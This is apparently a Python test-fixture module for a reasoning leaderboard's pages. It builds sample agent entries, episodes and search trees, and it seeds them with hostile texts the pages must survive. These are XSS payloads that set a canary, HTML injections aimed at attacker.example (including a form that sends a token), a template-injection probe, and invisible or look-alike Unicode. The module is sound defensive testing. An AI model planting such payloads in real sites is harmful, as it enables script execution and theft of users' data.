"""Entries, episodes and trees for tests of the board's pages, and texts that a page must not be hurt by."""

from __future__ import annotations

from collections.abc import Iterable, Sequence
from dataclasses import replace
from datetime import date
from functools import cache

from reasoning_gym.checker.extract import stated_answer
from reasoning_gym.episodes import Episode, judge
from reasoning_gym.family import get_family
from reasoning_leaderboard.entries import AgentCard, Cell, Entry, Spent, Superseded, Tier, Track
from reasoning_leaderboard.pages.site import BoardSite
from reasoning_leaderboard.pages.transcripts import Transcripts, transcripts_of

CANARY = "board_canary"  # a property of the window that a script which ran would set

SCRIPTS = (
    f"<script>window.{CANARY}=1</script>",
    f"</script><script>window.{CANARY}=1</script>",
    f"<img src=x onerror=window.{CANARY}=1>",
    f"<svg onload=window.{CANARY}=1>",
    f"<svg><script>window.{CANARY}=1</script></svg>",
    f'<iframe srcdoc="<script>parent.{CANARY}=1</script>"></iframe>',
    f"<details open ontoggle=window.{CANARY}=1>",
    f'<a href="javascript:window.{CANARY}=1">Answer</a>',
    f"javascript:window.{CANARY}=1",
    f'" autofocus onfocus=window.{CANARY}=1 x="',
    f"' onmouseover='window.{CANARY}=1",
    f"--><script>window.{CANARY}=1</script><!--",
    f"]]><script>window.{CANARY}=1</script>",
    f"</title></textarea></style></bdi></p></details><script>window.{CANARY}=1</script>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//attacker.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//attacker.example'>",
    "<base href=//attacker.example/>",
    "<form action=//attacker.example><input name=token></form>",
    "<img src=//attacker.example/pixel.png>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "&lt;script&gt;&#x3c;script&#x3e;&amp;amp;",
)
UNSEEN = (
    "Answer: \u202e24\u202c",
    "\u2066\u2067\u2068isolates that nothing ends",
    "\u061c\u200e\u200fmarks of direction",
    "4\u200b2 \u200c\u200d\u2060\ufeff\u00ad",
    "tag \U000e0041\U000e0042",
    "line\u2028paragraph\u2029",
    "\x00\x07\x08\x1b[2J\x7f\x85",
    "half \ud800 and \udfff",
    "\ufffe\uffff\U0010ffff\ue000",
)
LOOK_ALIKES = (
    "Аnswer: 42",  # the first letter is Cyrillic
    "ａｎｓｗｅｒ 42",
    "z\u0335\u0321\u0322" + "\u0301" * 60,
    "שלום 12 مرحبا",
    "𝟒𝟐 ⅳ ½ ☃ 日本語",
)
HOSTILE_TEXTS = (*SCRIPTS, *UNSEEN, *LOOK_ALIKES)

FAMILY = "linear_equation"
TRACK = Track(
    env="ReasoningLinearEquation-v0",
    families={FAMILY: 0},
    levels={FAMILY: (1, 2, 3)},
    max_thoughts=32,
    max_thought_chars=1_000,
)
OTHER_TRACK = TRACK.model_copy(update={"levels": {FAMILY: (4,)}})


def entry(number: int, *, right: int = 5, n: int = 10, tokens: int = 0, **more: object) -> Entry:
    """An entry of no run, with a card of its own unless one is given."""
    plain = Entry(
        id=f"{number:064x}",
        tier=Tier.SELF_REPORTED,
        track=TRACK,
        card=AgentCard(name=f"agent {number}"),
        account="ada",
        entered=date(2026, 11, 1 + number % 28),
        cells=(Cell(family=FAMILY, level=1, n=n, correct=right),),
        spent=Spent(tokens=tokens * n),
    )
    return plain.model_copy(update=more)


ENTRIES = (
    entry(1, right=9, tokens=40, card=AgentCard(name="greedy", model="small", parameters=3_000_000, budget=90)),
    entry(
        2,
        right=7,
        tokens=400,
        tier=Tier.CHALLENGED,
        card=AgentCard(name="search", model="large", parameters=7 * 10**9, tools=("calculator", "web search")),
        account="grace",
        attempts=12,
        round="2026-11",
    ),
    entry(
        3,
        right=8,
        tokens=4_000,
        tier=Tier.CHALLENGED,
        card=AgentCard(name="search", model="large", parameters=7 * 10**9, budget=5_000, note="More simulations."),
        account="grace",
        abandoned=1,
        history=(Superseded(correct=6, n=10, until=date(2026, 11, 3), reason="fractions were refused"),),
    ),
    entry(
        4, right=7, n=14, tier=Tier.REPRODUCED, card=AgentCard(name="Zebra", tools=("calculator",)), problems="common"
    ),
    entry(5, right=0, card=AgentCard(name="random", budget=100), marks=("recorded data of 2025",)),
    entry(6, right=3, tokens=7, track=OTHER_TRACK, card=AgentCard(name="greedy", parameters=10**7)),
)


def episode(thoughts: Sequence[str], index: int = 0, *, level: int = 2, **more: object) -> Episode:
    """An episode with these thoughts, with the verdict that it deserves."""
    family = get_family(FAMILY)
    problem = family.problem("test", level, index)
    blank = Episode(str(problem.address), problem.question.text, tuple(thoughts), "", "", 0.0)
    verdict = judge(blank, problem, family)
    return replace(blank, status=str(verdict.status), reason=verdict.reason, reward=float(verdict.correct), **more)


def solved(index: int = 0, level: int = 2) -> Episode:
    """An episode that goes the reference's way."""
    family = get_family(FAMILY)
    return episode(family.reference_thoughts(family.problem("test", level, index)), index, level=level)


def told(episodes: Sequence[Episode], *, reveal: bool = True, trees: Iterable[object] = ()) -> Transcripts:
    """The transcripts of episodes of the one family; the trees are the first one's."""
    family = get_family(FAMILY)

    def problem_at(place: int):  # type: ignore[no-untyped-def]
        _, _, level, index = episodes[place].address.split("/")
        return family, family.problem("test", int(level), int(index))

    return transcripts_of(episodes, problem_at, reveal=reveal, trees={0: list(trees)})


@cache
def hostile_episodes() -> tuple[Episode, ...]:
    """Right and wrong episodes, and one for each hostile text: as a thought, and as the answer."""
    return (
        solved(),
        solved(1, 1),
        *(episode(stating(text), place % 7) for place, text in enumerate(HOSTILE_TEXTS)),
    )


def stating(text: str) -> tuple[str, ...]:
    """Thoughts of a text, of which the last states it as the answer."""
    return (text,) if stated_answer(text) is not None else (text, f"Answer: {text}")


def hostile_entry() -> Entry:
    """An entry with hostile texts even where the schema lets none in."""
    card = AgentCard.model_construct(
        name=SCRIPTS[0],
        model=UNSEEN[0],
        revision=SCRIPTS[2],
        parameters=1,
        code=SCRIPTS[8],
        tools=(SCRIPTS[9], UNSEEN[7]),
        budget=7,
        note=" ".join(HOSTILE_TEXTS),
    )
    return entry(99, right=1, tokens=3, card=card, account=SCRIPTS[10], command=SCRIPTS[4], marks=(SCRIPTS[13],))


def example_site() -> BoardSite:
    """A board with hostile entries and transcripts among others."""
    hostile = hostile_entry()
    grown = tree("", 99, [tree(text, 9, [tree(other) for other in HOSTILE_TEXTS[::-1]]) for text in HOSTILE_TEXTS])
    transcripts = {
        hostile.id: told(hostile_episodes(), trees=[grown]),
        ENTRIES[0].id: told([solved(i) for i in range(60)]),
    }
    return BoardSite((*ENTRIES, hostile), lambda each: transcripts.get(each.id))


def tree(thought: str = "", visits: int = 1, children: Sequence[object] = ()) -> dict[str, object]:
    """A node of a tree as a search writes it."""
    return {
        "thought": thought,
        "visits": visits,
        "value": 0.5,
        "prior": 0.25,
        "log_prob": -1.0,
        "drawn": 4,
        "closed": False,
        "exhausted": False,
        "children": list(children),
    }
